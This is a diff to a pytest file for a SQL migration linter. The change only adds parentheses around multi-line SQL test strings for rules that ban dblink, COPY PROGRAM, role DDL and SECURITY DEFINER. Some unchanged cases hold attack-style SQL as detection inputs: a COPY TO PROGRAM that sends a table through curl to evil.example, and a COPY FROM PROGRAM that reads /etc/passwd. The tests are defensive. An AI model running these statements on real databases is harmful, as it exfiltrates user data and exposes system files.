@@ -420,8 +420,8 @@ def lint_with_down(tmp_path: Path, up: str, down: str, *, shared_mode: bool = Fa
     ("ban-cross-database-access", "INSERT INTO usr_mast SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int);"),
     ("ban-cross-database-access", "SELECT public.dblink_connect('c', 'dbname=x');"),
     ("ban-cross-database-access", "DO $$\nBEGIN\n  PERFORM DBLINK_EXEC('dbname=x', 'select 1');\nEND $$;"),
-    ("ban-cross-database-access", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
-                                  "BEGIN PERFORM dblink_exec('dbname=x', 'select 1'); END $f$;"),
+    ("ban-cross-database-access", ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
+                                  "BEGIN PERFORM dblink_exec('dbname=x', 'select 1'); END $f$;")),
     ("ban-copy-program", "COPY usr_mast TO PROGRAM 'curl -d @- https://evil.example';"),
     ("ban-copy-program", "COPY usr_mast FROM PROGRAM 'cat /etc/passwd';"),
     ("ban-copy-program", "COPY usr_mast FROM '/var/lib/postgresql/data.csv' WITH (FORMAT csv);"),
@@ -446,8 +446,8 @@ def lint_with_down(tmp_path: Path, up: str, down: str, *, shared_mode: bool = Fa
     ("ban-role-ddl", "SET SESSION AUTHORIZATION cvs_owner;"),
     ("ban-role-ddl", "REASSIGN OWNED BY cvs_app TO cvs_owner;"),
     ("ban-role-ddl", "DROP OWNED BY cvs_app;"),
-    ("ban-role-ddl", "DO $$\nBEGIN\n  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'r') THEN\n"
-                     "    CREATE ROLE r NOLOGIN;\n  END IF;\nEND $$;"),
+    ("ban-role-ddl", ("DO $$\nBEGIN\n  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'r') THEN\n"
+                     "    CREATE ROLE r NOLOGIN;\n  END IF;\nEND $$;")),
 ])
 def test_reach_outside_rules(tmp_path: Path, rule: str, sql: str) -> None:
     findings = lint(tmp_path, sql)
@@ -469,8 +469,8 @@ def test_reach_outside_rules(tmp_path: Path, rule: str, sql: str) -> None:
     "RESET ROLE;",
     "SET search_path = public;",
     "SELECT set_config('app.current_tenant', '1', true);",
-    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
-    "BEGIN\n  -- we used to CREATE ROLE here and call dblink_exec(); no more\n  PERFORM 1;\nEND $f$;",
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $f$\n"
+    "BEGIN\n  -- we used to CREATE ROLE here and call dblink_exec(); no more\n  PERFORM 1;\nEND $f$;"),
     "COMMENT ON COLUMN usr_mast.usr_note IS 'copied from the old system via dblink';",
 ])
 def test_reach_outside_rules_no_false_alarms(tmp_path: Path, sql: str) -> None:
@@ -521,10 +521,10 @@ def lint_shared(tmp_path: Path, sql: str, *, shared_mode: bool = True) -> list[F
     ("view-needs-security-invoker", "ALTER VIEW usr_v RESET (security_invoker);"),
     ("view-needs-security-invoker", "ALTER VIEW usr_v SET (security_invoker = 0, check_option = local);"),
     ("shared-materialized-view", "CREATE MATERIALIZED VIEW usr_cnt AS SELECT clnt_id, count(*) FROM usr_mast GROUP BY 1;"),
-    ("shared-security-definer", "CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql SECURITY DEFINER\n"
-                                "AS 'SELECT count(*) FROM usr_mast';"),
-    ("shared-security-definer", "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql SECURITY DEFINER\n"
-                                "BEGIN ATOMIC DELETE FROM usr_mast; END;"),
+    ("shared-security-definer", ("CREATE FUNCTION usr_cnt() RETURNS bigint LANGUAGE sql SECURITY DEFINER\n"
+                                "AS 'SELECT count(*) FROM usr_mast';")),
+    ("shared-security-definer", ("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql SECURITY DEFINER\n"
+                                "BEGIN ATOMIC DELETE FROM usr_mast; END;")),
     ("shared-security-definer", "ALTER FUNCTION usr_cnt() SECURITY DEFINER;"),
 ])
 def test_shared_mode_rules(tmp_path: Path, rule: str, sql: str) -> None:
